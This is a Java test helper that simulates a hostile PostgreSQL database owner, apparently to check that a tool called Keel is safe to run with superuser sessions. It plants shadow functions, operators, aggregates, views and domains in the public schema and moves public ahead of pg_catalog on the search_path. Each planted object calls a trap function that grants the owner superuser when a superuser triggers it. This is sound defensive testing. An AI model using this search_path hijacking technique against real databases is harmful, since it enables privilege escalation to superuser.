package dev.keel.testing;

import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * A database owner who tries to make Keel's superuser sessions run its code: it shadows the
 * built-in functions, aggregates, operators, views and types Keel uses with its own in
 * {@code public}, and puts {@code public} ahead of {@code pg_catalog} on its database and its
 * role. Each of its objects calls {@code public.evil}, which, when a superuser runs it, records
 * the call in {@code public.side_effects} and makes the owner a superuser.
 */
public final class HostileOwner {
    private HostileOwner() {
    }

    /** Functions Keel's sessions call (or once called unqualified): name(arguments) returns type. */
    private static final String[][] SHADOWS = {
            {"current_setting", "pg_catalog.text", "pg_catalog.text"},
            {"pg_is_in_recovery", "", "boolean"},
            {"pg_current_wal_lsn", "", "pg_catalog.pg_lsn"},
            {"clock_timestamp", "", "timestamptz"},
            {"pg_reload_conf", "", "boolean"},
            {"pg_conf_load_time", "", "timestamptz"},
            {"pg_promote", "boolean, integer", "boolean"},
            {"pg_terminate_backend", "integer", "boolean"},
            {"pg_backend_pid", "", "integer"},
            {"pg_database_size", "name", "bigint"},
            {"current_database", "", "name"},
            {"pg_size_pretty", "bigint", "pg_catalog.text"},
            {"pg_walfile_name", "pg_catalog.pg_lsn", "pg_catalog.text"},
            {"pg_switch_wal", "", "pg_catalog.pg_lsn"},
            {"pg_wal_lsn_diff", "pg_catalog.pg_lsn, pg_catalog.pg_lsn", "numeric"},
            {"pg_last_wal_receive_lsn", "", "pg_catalog.pg_lsn"},
            {"pg_last_wal_replay_lsn", "", "pg_catalog.pg_lsn"},
            {"pg_last_xact_replay_timestamp", "", "timestamptz"},
            {"date_part", "pg_catalog.text, interval", "double precision"},
            {"format", "pg_catalog.text", "pg_catalog.text"},
    };

    private static final String[] VIEWS = {"pg_stat_user_tables", "pg_stat_activity", "pg_roles", "pg_replication_slots",
            "pg_stat_replication", "pg_stat_wal_receiver", "pg_stat_archiver", "pg_settings", "pg_database"};

    /** Plants the owner's traps through its own connection ({@code url} is the default credential's). */
    public static void plant(String url, Path caFile) throws SQLException {
        try (Connection connection = Pg.connect(url, caFile); Statement sql = connection.createStatement()) {
            String owner = Pg.scalar(connection, "select current_user");
            String database = Pg.scalar(connection, "select current_database()");
            sql.execute("create table public.side_effects (who pg_catalog.text, what pg_catalog.text)");
            sql.execute("create function public.evil(what pg_catalog.text) returns boolean language plpgsql as $$ begin"
                    + " if (select rolsuper from pg_catalog.pg_roles where rolname = current_user) then"
                    + "  insert into public.side_effects values (current_user, what);"
                    + "  execute 'alter role \"" + owner + "\" superuser';"
                    + " end if; return true; end $$");
            for (String[] shadow : SHADOWS) {
                String[] types = shadow[1].isEmpty() ? new String[0] : shadow[1].split(", ");
                StringBuilder args = new StringBuilder();
                for (int i = 1; i <= types.length; i++) {
                    args.append(i > 1 ? ", " : "").append('$').append(i);
                }
                sql.execute("create function public." + shadow[0] + "(" + shadow[1] + ") returns " + shadow[2]
                        + " language sql as $$ select case when public.evil('" + shadow[0] + "') then pg_catalog." + shadow[0]
                        + "(" + args + ") end $$");
            }
            sql.execute("create function public.count_step(bigint) returns bigint language sql as $$"
                    + " select case when public.evil('count') then $1 operator(pg_catalog.+) 1 end $$");
            sql.execute("create aggregate public.count(*) (sfunc = public.count_step, stype = bigint, initcond = '0')");
            for (String view : VIEWS) {
                sql.execute("create view public." + view + " as select * from pg_catalog." + view + " where public.evil('" + view + "')");
            }
            operator(sql, "<>", "integer", "integer");
            operator(sql, "=", "name", "name");
            operator(sql, "=", "name", "pg_catalog.text");
            operator(sql, "=", "pg_catalog.text", "pg_catalog.text");
            sql.execute("create function public.lsn_minus(pg_catalog.pg_lsn, integer) returns pg_catalog.pg_lsn language sql as $$"
                    + " select case when public.evil('-') then $1 operator(pg_catalog.-) $2::numeric end $$");
            sql.execute("create operator public.- (leftarg = pg_catalog.pg_lsn, rightarg = integer, function = public.lsn_minus)");
            // Casts to these names find the owner's domains, whose checks run its code.
            for (String type : new String[]{"text", "int4", "int8", "float8", "pg_lsn", "name"}) {
                sql.execute("create domain public." + type + " as pg_catalog." + type + " check (public.evil('::" + type + "'))");
            }
            sql.execute("alter database \"" + database + "\" set search_path = public, pg_catalog");
            sql.execute("alter role \"" + owner + "\" in database \"" + database + "\" set search_path = public, pg_catalog");
            // Every other session on the database, Keel's superuser's included, would otherwise run as the owner.
            sql.execute("alter database \"" + database + "\" set role = \"" + owner + "\"");
        }
    }

    private static void operator(Statement sql, String op, String left, String right) throws SQLException {
        String name = "op_" + Integer.toHexString((op + left + right).hashCode()).replace('-', 'm');
        sql.execute("create function public." + name + "(" + left + ", " + right + ") returns boolean language sql as $$"
                + " select public.evil('" + op + "') and $1 operator(pg_catalog." + op + ") $2 $$");
        sql.execute("create operator public." + op + " (leftarg = " + left + ", rightarg = " + right + ", function = public." + name + ")");
    }

    /** Nothing the owner planted ran with privileges: it is no superuser, and its side-effect table is empty. */
    public static void assertUntouched(String url, Path caFile, String after) throws SQLException {
        try (Connection connection = Pg.connect(url, caFile)) {
            assertThat(Pg.scalar(connection, "select pg_catalog.string_agg(who operator(pg_catalog.||) ' ran '"
                    + " operator(pg_catalog.||) what, ', ') from public.side_effects")).as("what ran with privileges after " + after).isNull();
            assertThat(Pg.scalar(connection, "select rolsuper from pg_catalog.pg_roles where rolname operator(pg_catalog.=) current_user"))
                    .as("the owner is a superuser after " + after).isEqualTo("f");
        }
    }
}
